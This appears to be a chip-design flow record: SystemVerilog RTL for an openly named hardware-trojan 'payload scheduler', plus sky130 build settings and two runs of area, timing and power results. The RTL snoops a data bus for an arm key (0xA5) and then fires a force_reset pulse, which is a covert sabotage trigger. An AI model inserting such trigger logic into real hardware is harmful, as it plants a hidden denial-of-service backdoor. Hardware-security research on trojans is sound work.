--- src/rtl/trojan_pkg.sv ---
// Shared types and default parameters for the trojan payload schedulers.
//   state_t         : scheduler FSM state encoding (2 bits)
//   DEF_ARM_KEY     : default data-bus value that arms the scheduler
//   DEF_PULSE_CYCLES, DEF_COOLDOWN_CYCLES : default pulse / cooldown lengths
package trojan_pkg;

  typedef enum logic [1:0] {
    DISARMED = 2'd0,
    ARMED    = 2'd1,
    FIRE     = 2'd2,
    COOLDOWN = 2'd3
  } state_t;

  localparam logic [7:0] DEF_ARM_KEY         = 8'hA5;
  localparam int         DEF_PULSE_CYCLES    = 4;
  localparam int         DEF_COOLDOWN_CYCLES = 16;

  function automatic int max_int(input int a, input int b);
    return (a > b) ? a : b;
  endfunction

endpackage

--- src/rtl/trojan_payload_scheduler_rr_arbiter.sv ---
// Combinational round-robin arbiter.
//   req     in  NUM_REQ          request vector
//   rr_ptr  in  $clog2(NUM_REQ)  index of the previous winner
//   winner  out $clog2(NUM_REQ)  first set request after rr_ptr (wrapping)
//   valid   out 1                at least one request is set
module rr_arbiter #(
  parameter int NUM_REQ = 4
) (
  input  logic [NUM_REQ-1:0]         req,
  input  logic [$clog2(NUM_REQ)-1:0] rr_ptr,
  output logic [$clog2(NUM_REQ)-1:0] winner,
  output logic                       valid
);
  import trojan_pkg::*;

  localparam int IW = $clog2(NUM_REQ);

  // Scan rr_ptr+1, rr_ptr+2, ... so the previous winner is checked last.
  always_comb begin
    logic [IW-1:0] cand;
    int            idx;
    winner = '0;
    valid  = 1'b0;
    cand   = '0;
    idx    = 0;
    for (int i = 1; i <= NUM_REQ; i++) begin
      idx  = (int'(rr_ptr) + i) % NUM_REQ;
      cand = IW'(idx);
      if (!valid && req[cand]) begin
        valid  = 1'b1;
        winner = cand;
      end
    end
  end

endmodule

--- src/rtl/trojan_payload_scheduler.sv ---
// Shares one force_reset payload between NUM_REQ trigger cores.
//   clk          in  1        system clock
//   rst          in  1        synchronous active-high reset
//   data_in      in  8        snooped data bus (ARM_KEY arms, ~ARM_KEY disarms)
//   req          in  NUM_REQ  level trigger requests
//   grant        out NUM_REQ  one-hot owner of the current pulse
//   grant_id     out $clog2(NUM_REQ) index of the last granted requester
//   force_reset  out 1        payload pulse, PULSE_CYCLES wide
//   armed        out 1        high whenever not DISARMED
//
// state    | meaning
// DISARMED | waiting for ARM_KEY, requests ignored
// ARMED    | idle, next request fires (disarm wins over request)
// FIRE     | pulse active, grant and force_reset held
// COOLDOWN | enforced idle gap, requests dropped, disarm deferred here
module trojan_payload_scheduler
  import trojan_pkg::*;
#(
  parameter int         NUM_REQ         = 4,
  parameter int         PULSE_CYCLES    = DEF_PULSE_CYCLES,
  parameter int         COOLDOWN_CYCLES = DEF_COOLDOWN_CYCLES,
  parameter logic [7:0] ARM_KEY         = DEF_ARM_KEY
) (
  input  logic                       clk,
  input  logic                       rst,
  input  logic [7:0]                 data_in,
  input  logic [NUM_REQ-1:0]         req,
  output logic [NUM_REQ-1:0]         grant,
  output logic [$clog2(NUM_REQ)-1:0] grant_id,
  output logic                       force_reset,
  output logic                       armed
);

  localparam int IW = $clog2(NUM_REQ);
  localparam int CW = $clog2(max_int(PULSE_CYCLES, COOLDOWN_CYCLES)) + 1;

  state_t        state;
  logic [CW-1:0] cnt;
  logic [IW-1:0] rr_ptr;
  logic          pend_disarm;
  logic [IW-1:0] winner;
  logic          win_valid;
  logic          is_arm;
  logic          is_disarm;

  assign is_arm    = (data_in == ARM_KEY);
  assign is_disarm = (data_in == ~ARM_KEY);

  rr_arbiter #(.NUM_REQ(NUM_REQ)) u_arb (
    .req    (req),
    .rr_ptr (rr_ptr),
    .winner (winner),
    .valid  (win_valid)
  );

  always_ff @(posedge clk) begin
    if (rst) begin
      state       <= DISARMED;
      grant       <= '0;
      grant_id    <= '0;
      force_reset <= 1'b0;
      armed       <= 1'b0;
      rr_ptr      <= IW'(NUM_REQ - 1);
      cnt         <= '0;
      pend_disarm <= 1'b0;
    end else begin
      case (state)
        DISARMED: begin
          if (is_arm) begin
            state <= ARMED;
            armed <= 1'b1;
          end
        end
        ARMED: begin
          if (is_disarm) begin
            state <= DISARMED;
            armed <= 1'b0;
          end else if (win_valid) begin
            state       <= FIRE;
            grant       <= NUM_REQ'(1) << winner;
            grant_id    <= winner;
            rr_ptr      <= winner;
            force_reset <= 1'b1;
            cnt         <= CW'(PULSE_CYCLES - 1);
          end
        end
        FIRE: begin
          if (is_disarm) pend_disarm <= 1'b1;
          if (cnt == '0) begin
            state       <= COOLDOWN;
            force_reset <= 1'b0;
            grant       <= '0;
            cnt         <= CW'(COOLDOWN_CYCLES - 1);
          end else begin
            cnt <= cnt - 1'b1;
          end
        end
        COOLDOWN: begin
          // The bus value on the final cooldown cycle still counts.
          if (cnt == '0) begin
            pend_disarm <= 1'b0;
            if (is_disarm || (pend_disarm && !is_arm)) begin
              state <= DISARMED;
              armed <= 1'b0;
            end else begin
              state <= ARMED;
            end
          end else begin
            cnt <= cnt - 1'b1;
            if (is_disarm)   pend_disarm <= 1'b1;
            else if (is_arm) pend_disarm <= 1'b0;
          end
        end
        default: begin
          state <= DISARMED;
          armed <= 1'b0;
        end
      endcase
    end
  end

endmodule

--- config.mk ---
export PLATFORM = sky130hd
export DESIGN_NAME = trojan_payload_scheduler
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/trojan_pkg.sv /design/src/rtl/trojan_payload_scheduler_rr_arbiter.sv /design/src/rtl/trojan_payload_scheduler.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export ABC_AREA = 1
export ABC_CLOCK_PERIOD_IN_PS = 3100
export CAP_MARGIN = 20
export CORE_MARGIN = 4
export CORE_UTILIZATION = 40
export DETAILED_ROUTE_END_ITERATION = 12
export DONT_BUFFER_PORTS = 1
export PLACE_DENSITY = 0.63
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
export TNS_END_PERCENT = 50
--- constraint.sdc ---
create_clock -name clk -period 3.1 [get_ports clk]
set_input_delay 0.93 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.93 -clock clk [all_outputs]
set_load 0.01 [all_outputs]
==> results.md, run 1 <==
- Die area: 3940 um^2
- Ant. Diodes: 0
- LEAKAGE: 0.541 nW
- Synth Area per Inst: 6.62 um^2
- Worst-Skew Late Latency: 290 ps
- Vias in the first global route: 1,030
- RSZ-0062 raised after global routing: false
- Setup Crit Path Kind: reg2reg
- Commonest non-fill, non-tap cells in the layout: nand2_1, nor2_1, inv_1, dfxtp_1, nand3_1
- DRC viols: 0
- Avg WL per Cell: 11.2 um
- CTS root buffer: clkbuf_4
- Mapped Area: 1200 um^2
- Total track usage: 0.130
- Initial Utilization: 0.427
- CP top delay family: simple AND/OR/NAND/NOR gates
- Initial antenna violation count: 0
- Io pins: 22
- Worst IR Drop VDD: 0.460 mV
- Yosys reg bits: 18
- Vias per inst: 5.14
- Synth Area in Adders: 0.0104
- Worst-path cell chain: inv_1 -> ha_1 -> nor3b_1 -> nand2_1 -> nor2_1 -> nand2_1 -> nand3_1 -> a21oi_2
- Final ANT Viol Nets: 0
- Peak Freq: 555 MHz
- Final core utilization: 0.447
- Yosys warnings: 0
- Grt ovf: 0
- Final Setup Violations: 0
- Minimum clock period: 1800 ps
- Slew HR: 0.699
- Nets@finish: 198
- Most common cell after layout, fill and taps aside: nand2_1
- Depth of the CTS H-tree: 1
- Sink Count: 18
- Clock buffer depth: 2
- CP required: 3290 ps
- Worst Path Buf+Inv: 1
- Post-CTS setup buffers: 0
- Final slew viol count: 0
- Die H: 62.7 um
- Compound-gate portion of the synthesized area: 0.114
- Critical path fanouts, max: 5
- CP Capture Type: flop
- Cts bufs inserted: 3
- Initial DRC count: 16
- Critical Path Start Type: flop
- Status: complete, no violations
- CP max stage delay: 360 ps
- Largest net degree at the start of global routing: 13
- Vias: 1,094
- Resize count post-CTS: 0
- Clock-pin slew on the worst setup and hold paths: 110 ps
- Final Cycle Share: 0.581
- First-pass GRT wire length: 4320 um
- 1st-pass router iterations: 4
- Sequential-to-total area share from yosys stat: 0.301
- Die Wd: 62.7 um
- Arrival time at the worst endpoint: 2000 ps
- Slowest cell on the critical path: dfxtp_1
- Cell count along the critical path: 8
- Combinational family with the most area after synthesis: simple AND/OR/NAND/NOR gates
- Gate Count Post-Synth: 181
- Syn Nets: 196
- HPWL reported at the end of detailed placement: 1910 um
- Crit path top cell by count: nand2_1
- CTS tree: built
- XOR/XNOR share of the synthesized area: 0.0146
- Distinct cell type count after synthesis: 30
- Area delta synth->final: 4.59%
- Wirelength, routed: 2390 um
- Hold buffers post-CTS: 0
- Worst slew pin tran: 450 ps
- Pwr per Cell Area: 880 nW/um^2
- Hold slack: 462 ps
- Setup TNS: 0 ps
- Clk_skew: 4.45 ps
- Share of cells above drive strength 1: 0.176
- Worst min-delay path class: reg2reg
- WHS Path Cells: 2
- IO Port Bufs: 0
- Mux cell area share after synthesis: 0
- Core area: 2810 um^2
- R2R depth: 8
- Row count: 19
- Synth Area in Simple Gates: 0.460
- Hold Violations, Final: 0
- GP Congestion: 0.788
- Max Cap Violations: 0
## Yosys cell counts
library cell  number  share of area
nand2_1           50           0.16
nor2_1            19          0.060
dfxtp_1           18           0.30
inv_1             18          0.056
nand3_1           15          0.063
nand2_2           11          0.057
a21oi_1            9          0.038
o21ai_1            6          0.025
a21oi_2            4          0.029
inv_2              4          0.013
nand3b_1           3          0.019
nand4_1            3          0.016
nand2_8            2          0.033
nor3_2             2          0.017
o21ai_0            2         0.0084
a221oi_1           1         0.0073
buf_2              1         0.0042
buf_6              1         0.0094
clkbuf_1           1         0.0031
clkinv_4           1         0.0073
ha_1               1          0.010
inv_6              1         0.0073
nand3_4            1          0.015
nor2_2             1         0.0052
nor2_4             1         0.0094
nor3_1             1         0.0042
nor3b_1            1         0.0063
o211ai_1           1         0.0063
xnor2_1            1         0.0073
xor2_1             1         0.0073
## power breakdown
group / total, W / internal [W] / switching (W)
registers: 0.000357 / 0.000283 / 0.0000740
clock network: 0.000146 / 0.0000715 / 0.0000749
logic: 0.000600 / 0.000203 / 0.000397
total: 0.00110 / 0.000557 / 0.000546
## per-layer routing
| layer | part of all wire | routed length [um] | global-route usage |
|---|---|---|---|
| met1 | 0.51 | 1220 | 0.176 |
| met2 | 0.43 | 1020 | 0.204 |
| met3 | 0.053 | 127 | 0.0288 |
| met5 | 0 | 0 | 0 |
| met4 | 0.010 | 24 | 0.0413 |
## worst paths after layout
kind | from | to | slack, ps
worst min register to register | cnt[4] | cnt[4] | 460
worst max register to register | cnt[0] | grant[2] | 1300
worst max-delay path | cnt[0] | grant[2] | 1300
worst min-delay path | cnt[4] | cnt[4] | 460
## tightest hold or removal path: stages (launching register included)
cell and delay [ps]:
dfxtp_1 320, nand2_1 70, nor3_2 30
## registers in the layout (all words and copies together), names as in the netlist, named ones only
register / flops
armed: 1
state: 1
cnt: 5
force_reset: 1
rr_ptr: 2
pend_disarm: 1
grant_id: 2
grant: 4
## metrics by stage
stage / total power (W) / instances / instance area [um^2] / setup WS, ps
6_report: 0.00110 / 213 / 1250 / 1300
5_1_grt: 0.00122 / 213 / 1250 / 1120
4_1_cts: 0.00111 / 213 / 1250 / 1300
3_5_place_dp: 0.000961 / 209 / 1220 / 1050
3_3_place_gp: 0.000950 / 209 / 1220 / 1050
2_1_floorplan: 0.000876 / 181 / 1200 / 1170
## layout make-up
cell class                 instances  area, um^2
tap                               31        38.8
clock buffer                       4        36.3
inverter                          24         100
fill                             287        1550
sequential                        18         360
multi-input combinational        136         718
## kinds of logic (layout without fill, tap and decap cells)
group | Yosys count | in the layout
flip-flops | 18 | 18
AO/OA/AOI/OAI | 23 | 23
XOR/XNOR | 2 | 2
AND/OR/NAND/NOR | 110 | 110
adder cells (fa/ha/maj) | 1 | 1
buffers and inverters | 27 | 28
Power figures use the tool's default switching activity.
==> run 2: changes to the inputs <==
--- a/config.mk
+++ b/config.mk
@@ -6,13 +6,13 @@
 export NUM_CORES = 1
 export LEC_CHECK = 0
 export ABC_AREA = 1
-export ABC_CLOCK_PERIOD_IN_PS = 3100
+export ABC_CLOCK_PERIOD_IN_PS = 1650
 export CAP_MARGIN = 20
 export CORE_MARGIN = 4
 export CORE_UTILIZATION = 40
 export DETAILED_ROUTE_END_ITERATION = 12
 export DONT_BUFFER_PORTS = 1
-export PLACE_DENSITY = 0.63
+export PLACE_DENSITY = 0.65
 export SYNTH_ARGS = -nofsm -noshare
 export SYNTH_HDL_FRONTEND = slang
 export SYNTH_SLANG_ARGS = --single-unit
==> constraint.sdc (replaced) <==
create_clock -name clk -period 1.65 [get_ports clk]
set_input_delay 0.495 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.495 -clock clk [all_outputs]
set_load 0.01 [all_outputs]
==> run 2 against run 1 <==
Against the previous run:
- clock power rose by 89%
- worst hold slack worse by 230 ps
- final area increased by 11%
- cell count is 5.2% higher
- via count up 4.4%
- highest routed layer unchanged
==> results.md, run 2 (synthesized netlist as in run 1, its figures left out) <==
- Status: complete, no violations (unchanged)
- CP max stage delay: 420 ps (was 360 ps)
- Minimum clock period: 1560 ps (was 1800 ps)
- Slowest cell on the critical path: dfxtp_4 (was dfxtp_1)
- CP Capture Type: flop (unchanged)
- Final Cycle Share: 0.948 (was 0.581)
- Initial antenna violation count: 0 (unchanged)
- Largest net degree at the start of global routing: 13 (unchanged)
- LEAKAGE: 0.603 nW (was 0.541 nW)
- WHS Path Cells: 1 (was 2)
- Vias: 1,142 (was 1,094)
- Setup Crit Path Kind: reg2reg (unchanged)
- First-pass GRT wire length: 4540 um (was 4320 um)
- Critical Path Start Type: flop (unchanged)
- Avg WL per Cell: 12.2 um (was 11.2 um)
- Worst-path cell chain: inv_8 -> nand2_1 -> nand2_2 -> nand2_2 -> nand2_2 -> nor2_4 -> nand3_4 -> nand2_8 -> nand2_8 -> o21ai_2 -> nor2_1 (was inv_1 -> ha_1 -> nor3b_1 -> nand2_1 -> nor2_1 -> nand2_1 -> nand3_1 -> a21oi_2)
- Fill cells: 308 (was 287)
- Cells after DPL: 216 (was 209)
- Depth of the CTS H-tree: 1 (unchanged)
- Initial Utilization: 0.427 (unchanged)
- Pre-CTS WS: -62.3 ps (was 1050 ps)
- Final worst slack: 86.1 ps (was 1300 ps)
- Cell count along the critical path: 11 (was 8)
- Clk_skew: 19.2 ps (was 4.45 ps)
- Reg with most FFs: cnt (unchanged)
- Peak Freq: 639 MHz (was 555 MHz)
- Sink Count: 18 (unchanged)
- Crit path top cell by count: nand2_2 (was nand2_1)
- 1st-pass router iterations: 6 (was 4)
- Grt ovf: 0 (unchanged)
- Arrival time at the worst endpoint: 1760 ps (was 2000 ps)
- Multi-input gate area: 769 um^2 (was 718 um^2)
- Post-Layout Inst Area: 1390 um^2 (was 1250 um^2)
- Non-Filler Instances: 224 (was 213)
- Cts bufs inserted: 3 (unchanged)
- Die Wd: 62.7 um (unchanged)
- Vias per inst: 5.10 (was 5.14)
- Max reg flops: 5 (unchanged)
- Io pins: 22 (unchanged)
- Vias in the first global route: 1,133 (was 1,030)
- Ant. Diodes: 0 (unchanged)
- Area delta synth->final: 16.2% (was 4.59%)
- Clock buffer depth: 2 (unchanged)
- Nets@finish: 209 (was 198)
- RSZ-0062 raised after global routing: true (was false)
- Row count: 19 (unchanged)
- Wirelength, routed: 2740 um (was 2390 um)
- Initial DRC count: 37 (was 16)
- DRC viols: 0 (unchanged)
- Register area: 368 um^2 (was 360 um^2)
- Area post-placement: 1270 um^2 (was 1220 um^2)
- Register-to-Register Setup Slack: 90 ps (was 1300 ps)
- Final core utilization: 0.496 (was 0.447)
- Most common cell after layout, fill and taps aside: nand2_1 (unchanged)
- Core area: 2810 um^2 (unchanged)
- Final ANT Viol Nets: 0 (unchanged)
- Worst IR Drop VDD: 0.911 mV (was 0.460 mV)
- Commonest non-fill, non-tap cells in the layout: nand2_1, inv_1, nor2_1 (was nand2_1, nor2_1, inv_1, dfxtp_1, nand3_1)
- HPWL reported at the end of detailed placement: 2040 um (was 1910 um)
- Max Cap Violations: 0 (unchanged)
- CTS tree: built (unchanged)
- Share of cells above drive strength 1: 0.280 (was 0.176)
- R2R depth: 11 (was 8)
- Worst-Skew Late Latency: 300 ps (was 290 ps)
- Worst Path Buf+Inv: 1 (unchanged)
- CP required: 1840 ps (was 3290 ps)
- Hold Violations, Final: 0 (unchanged)
- Critical path fanouts, max: 10 (was 5)
- Regs by FF count: cnt: 5 flops, grant: 4 flops (unchanged)
- GP Congestion: 0.793 (was 0.788)
- Pwr per Cell Area: 1680 nW/um^2 (was 880 nW/um^2)
- Clock-pin slew on the worst setup and hold paths: 120 ps (was 110 ps)
- Die H: 62.7 um (unchanged)
- CP top delay family: simple AND/OR/NAND/NOR gates (unchanged)
- Die area: 3940 um^2 (unchanged)
- Worst slew pin tran: 440 ps (was 450 ps)
- CTS root buffer: clkbuf_4 (unchanged)
- Worst min-delay path class: in2reg (was reg2reg)
- Final slew viol count: 0 (unchanged)
- Final Setup Violations: 0 (unchanged)
- Slew HR: 0.706 (was 0.699)
- Hold slack: 233 ps (was 462 ps)
- IO Port Bufs: 0 (unchanged)
- Total track usage: 0.139 (was 0.130)
[run 2: cell count changes in the layout (fill, tap and decap cells not counted), sizes merged]
cell,previous run,this run
nand2,63,64
buf,0,10
[run 2: metrics by stage]
step / total power [W] / TNS [ps]
finish: 0.00235 / 0
global route: 0.00258 / -90.5
CTS: 0.00220 / 0
detailed placement: 0.00191 / -321
global placement: 0.00189 / -5.08
floorplan: 0.00165 / 0
[run 2: power by group]
part	switching (W)	total, W	leakage (nW)	internal, W
clock	0.000142	0.000276	0.0210	0.000135
combinational	0.000847	0.00139	0.436	0.000541
sequential	0.000142	0.000682	0.146	0.000540
[run 2: path summary, 6_finish.rpt]
check / start / endpoint
worst max-delay path: rr_ptr[0] / cnt[1]
worst min-delay path: rst / grant[2]
worst max register to register: rr_ptr[0] / cnt[1]
worst min register to register: cnt[4] / cnt[4]
[run 2: routing by layer]
layer	track usage	up-vias	wire length, um
met5	0	-	0
met4	0.0275	0	13
met3	0.0504	2	181
met2	0.249	24	1310
met1	0.157	510	1230
li1	-	606	-
[run 2: area by class of cell]
cell class / count / share of cell area
clock buffers: 4 / 0.0261
well taps: 31 / 0.0279
multi-input cells: 137 / 0.553
inverters: 24 / 0.0755
repair buffers: 10 / 0.0539
flip-flops and latches: 18 / 0.264
[run 2: repair_timing]
action                                  in CTS  in global routing
pin swaps                                    0                  7
hold buffers                                 0                  0
resized for setup                            1                 16
cloned                                       0                  1
endpoints found under the setup margin      11                 16
setup buffers                                0                  3
